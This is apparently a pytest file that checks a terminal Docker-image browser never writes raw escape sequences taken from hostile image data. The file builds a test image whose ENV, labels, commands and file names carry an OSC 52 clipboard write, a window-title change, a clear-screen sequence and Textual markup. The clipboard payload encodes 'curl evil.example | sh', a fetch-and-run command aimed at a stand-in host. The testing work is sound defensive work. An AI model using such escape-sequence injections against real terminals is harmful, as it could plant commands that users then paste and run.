"""Hostile image data in a real pty: no escape sequence from an image reaches the terminal.

An image is built on the sandbox daemon whose ENV, labels, RUN command and a file name hold
terminal escape sequences (OSC 52 clipboard write, OSC 0 window title, clear screen, leave the
alternate screen) and Textual markup. The real ``imagedeck`` runs in a pseudo-terminal; the list,
history, inspect (with a path query and a search), and layers screens are opened with keys, and
the BYTES the app writes are checked: the raw sequences never appear, their visible forms do.
``imagedeck layers IMAGE``'s text output is checked the same way.
"""

from __future__ import annotations

import base64
import fcntl
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import BASE_IMAGE, Sandbox

pytestmark = pytest.mark.daemon

ESC = "\x1b"
BEL = "\x07"
CLIPBOARD = base64.b64encode(b"curl evil.example | sh #").decode()
OSC52 = f"{ESC}]52;c;{CLIPBOARD}{BEL}"
TITLE = f"{ESC}]0;pwned{BEL}"
CLEAR = f"{ESC}[2J"
LEAVE_ALT = f"{ESC}[?1049l"
CSI_C1 = "\x9b31m"  # an 8-bit CSI: some terminals act on it as ESC [
DOCKERFILE = f"""FROM {BASE_IMAGE}
ENV CLIP="{OSC52}" TITLE="{TITLE}" CLEAR="{CLEAR}" ALT="{LEAVE_ALT}" C1="{CSI_C1}"
ENV MARKUP="[/x] [bold]b [link=http://e.x]l"
LABEL evil="{OSC52}" "[/x]key"="[bold]v"
RUN echo data > "/f{TITLE}[bold][link=e.x]" && echo "{OSC52}"
RUN echo again > "/f{TITLE}[bold][link=e.x]"
"""

# Raw sequences that must never be written by the app (its own output has none of them:
# Textual neither sets the title nor clears with 2J, and leaves the alternate screen at exit).
# BEL is not among them: Textual ends its own OSC 22 (pointer shape) with one.
FORBIDDEN = [
    (b"\x1b]52", "OSC 52 (clipboard write)"),
    (b"\x1b]0;", "OSC 0 (window title)"),
    (b"\x1b[2J", "clear screen"),
    ("\x9b".encode(), "C1 CSI"),
]


def build_env(sandbox: Sandbox) -> dict[str, str]:
    return {**os.environ, "DOCKER_HOST": sandbox.docker_host, "DOCKER_BUILDKIT": "0"}


@pytest.fixture(scope="module")
def hostile_image(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Build the hostile image under a unique name; remove it afterwards."""
    context = tmp_path_factory.mktemp("hostile")
    (context / "Dockerfile").write_text(DOCKERFILE)
    reference = f"test/hostile-{uuid.uuid4().hex[:8]}:latest"
    docker = ["docker", "-H", sandbox.docker_host]
    env = build_env(sandbox)
    subprocess.run(
        [*docker, "build", "-q", "-t", reference, str(context)],
        check=True,
        capture_output=True,
        env=env,
        timeout=300,
    )
    yield reference
    subprocess.run([*docker, "rmi", "-f", reference], capture_output=True, env=env, timeout=60)


class PtyApp:
    """imagedeck started as a person starts it, in a 120x40 pty; every byte it writes is kept."""

    def __init__(self, argv: list[str], env: dict[str, str], cwd: Path | None = None) -> None:
        self.master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
        self.process = subprocess.Popen(
            argv,
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=env,
            cwd=cwd,
            start_new_session=True,
        )
        os.close(slave)
        self.out = b""
        self.mark = 0  # where the output of the last keys starts

    def read(self, seconds: float) -> None:
        """Read what the app writes for ``seconds``."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self.master], [], [], 0.05)
            if ready:
                try:
                    self.out += os.read(self.master, 65536)
                except OSError:
                    return

    def expect(self, marker: bytes, seconds: float = 30.0) -> None:
        """Read until ``marker`` appears in what was written since the last keys, then settle."""
        start = self.mark

        def seen() -> bool:
            # Drawn text may be split by style changes (the cursor cell of a focused field).
            return marker in self.out[start:] or marker in drawn_text(self.out[start:])

        deadline = time.monotonic() + seconds
        while not seen() and time.monotonic() < deadline:
            self.read(0.1)
        assert seen(), f"{marker!r} never reached the terminal"
        self.read(0.5)  # the rest of the frame

    def send(self, keys: str, pause: float = 0.3) -> None:
        """Type ``keys`` (one write per key, as a person types) and read for a moment."""
        self.mark = len(self.out)
        for key in keys:
            os.write(self.master, key.encode())
            self.read(0.05)
        self.read(pause)

    def close(self) -> bytes:
        """Quit (q), wait, and return everything written."""
        if self.process.poll() is None:
            self.process.terminate()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(10)
        self.read(0.2)
        os.close(self.master)
        return self.out


def imagedeck_argv(*args: str) -> list[str]:
    script = Path(sys.executable).with_name("imagedeck")
    return [str(script), *args] if script.exists() else [sys.executable, "-m", "tui", *args]


def app_env(sandbox: Sandbox, home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("COLORTERM", "NO_COLOR")}
    env.update(
        DOCKER_HOST=sandbox.docker_host,
        TERM="xterm-256color",
        HOME=str(home),
        XDG_CONFIG_HOME=str(home / ".config"),
        XDG_STATE_HOME=str(home / ".state"),
    )
    return env


def drawn_text(out: bytes) -> bytes:
    """The output without the app's own CSI sequences (styles, cursor moves), so text drawn
    in several styles (a shown ``^[`` is in reverse video) reads as one piece."""
    return re.sub(rb"\x1b\[[0-9;?<>=]*[ -/]*[@-~]", b"", out)


def assert_no_raw_sequences(out: bytes, where: str) -> None:
    for raw, name in FORBIDDEN:
        at = out.find(raw)
        assert at < 0, f"{name} written raw in {where}: …{out[max(at - 60, 0) : at + 40]!r}…"


def test_hostile_image_never_reaches_the_terminal_raw(
    sandbox: Sandbox, hostile_image: str, tmp_path: Path
) -> None:
    app = PtyApp(imagedeck_argv(), app_env(sandbox, tmp_path))
    try:
        app.expect(b"(dangling)")
        name = hostile_image.split(":")[0].removeprefix("test/")
        app.send("/")
        app.expect(b"filter: repository")  # the field is open and has focus: type into it
        app.send(name + "\r")
        app.expect(b"shown)")  # the filter applied (the name alone is the field's echo)
        # History: CREATED BY holds the ENV and the RUN command.
        at_history = len(app.out)
        app.send("h")
        app.expect(b"CREATED BY", 60)
        app.send("f", 1.0)  # full commands
        app.send("e", 1.0)  # every entry's details
        app.send("\x1b")
        app.expect(b"shown)", 60)  # back on the list: `i` is the list's key
        # Inspect: the tree's keys and values, a path query, a search, the raw view.
        at_inspect = len(app.out)
        app.send("i")
        app.expect(b"bytes of JSON")  # the document is loaded: a path query can resolve
        # Each step waits for its answer line, as a person reads it before typing on; the
        # field has given focus back to the tree by then (Esc would otherwise close it only).
        app.send(".Config.Env\r")
        app.expect(b".Config.Env = ")
        app.send(".Config.Labels\r")
        app.expect(b".Config.Labels = ")
        app.send("/pwned\r")
        app.expect(b"match 1/")
        app.send("r", 1.0)  # raw JSON view
        app.send("r", 1.0)  # the tree again
        app.send("\x1b")
        # Back on the (filtered) list before `l`, as a person would wait: on a loaded machine the
        # inspect screen may still be closing, and `l` there is not the list's key.
        app.expect(b"shown)", 60)
        # Layers: commands and file names.
        at_layers = len(app.out)
        app.send("l")
        app.expect(b"Worst offenders", 120)  # the whole image is read: slow when the CPU is busy
        app.read(2.0)
        app.send("\x1b", 1.0)
        before_exit = app.out
        history = drawn_text(app.out[at_history:at_inspect])
        inspect = drawn_text(app.out[at_inspect:at_layers])
        layers = drawn_text(app.out[at_layers:])
        app.send("q", 1.0)
    finally:
        out = app.close()
    assert_no_raw_sequences(out, "the app's output")
    # Leaving the alternate screen happens once, at exit, never before it.
    assert b"\x1b[?1049l" not in before_exit, "the alternate screen was left before exit"
    # The sequences are shown visibly instead, on every screen.
    for screen in (history, inspect):
        assert b"^[]52;c;" in screen
        assert b"^[]0;pwned" in screen
        assert b"^[[2J" in screen
        assert b"^[[?1049l" in screen
        assert b"\\x9b31m" in screen
        # Markup in the data is shown as written, not applied.
        assert b"[/x]" in screen
        assert b"[bold]" in screen
    assert b"^[]0;pwned" in layers  # the file name
    assert b"[link=e.x]" in layers


def test_build_log_of_a_hostile_dockerfile_never_reaches_the_terminal_raw(
    sandbox: Sandbox, hostile_image: str, tmp_path: Path
) -> None:
    """`b` in a directory holding a Dockerfile whose steps print escape sequences."""
    context = tmp_path / "context"
    context.mkdir()
    nonce = uuid.uuid4().hex[:8]
    # FROM the hostile image (its ENV and labels are cached), then a step that runs: its output
    # holds the sequences, and the step line itself too.
    (context / "Dockerfile").write_text(
        f'FROM {hostile_image}\nRUN echo "{OSC52}{TITLE}{CLEAR}{LEAVE_ALT}[/x]" {nonce}\n'
    )
    target = f"test/hostile-built-{nonce}:1"
    docker = ["docker", "-H", sandbox.docker_host]
    app = PtyApp(imagedeck_argv(), app_env(sandbox, tmp_path / "home"), cwd=context)
    try:
        app.expect(b"(dangling)")
        app.send("b")
        app.expect(b"Build an image", 60)  # typed over the first page: the form's imports
        app.send(target, 0.5)  # the context is "." (here): the form starts on the tags
        at_build = len(app.out)
        app.send("\x13")  # ctrl+s
        app.expect("✔ Built".encode(), 120)  # the log's end line, with either builder
        app.read(1.0)
        before_exit = app.out
        build = drawn_text(app.out[at_build:])
    finally:
        app.close()
        subprocess.run([*docker, "rmi", target], capture_output=True, timeout=60)
    assert_no_raw_sequences(before_exit, "the build log")
    assert b"\x1b[?1049l" not in before_exit
    assert b"^[]52;c;" in build  # the step line and its output, shown
    assert b"^[]0;pwned" in build
    assert b"[/x]" in build


def test_layers_cli_text_output_has_no_raw_escapes(sandbox: Sandbox, hostile_image: str) -> None:
    env = {**os.environ, "DOCKER_HOST": sandbox.docker_host}
    done = subprocess.run(
        imagedeck_argv("layers", hostile_image), capture_output=True, env=env, timeout=300
    )
    assert done.returncode in (0, 1), done.stderr.decode(errors="replace")
    for stream in (done.stdout, done.stderr):
        assert b"\x1b" not in stream
        assert b"\x07" not in stream
        assert "\x9b".encode() not in stream
    # --json needs no help: the encoder escapes every control character.
    as_json = subprocess.run(
        imagedeck_argv("layers", "--json", hostile_image), capture_output=True, env=env, timeout=300
    )
    assert as_json.returncode == 0, as_json.stderr.decode(errors="replace")
    assert b"\x1b" not in as_json.stdout and "\x9b".encode() not in as_json.stdout
    assert b"\\u001b]0;pwned" in as_json.stdout
    # The file name (overwritten, so among the worst offenders) and the command, shown visibly.
    assert b"^[]0;pwned" in done.stdout
    assert b"^[]52;c;" in done.stdout
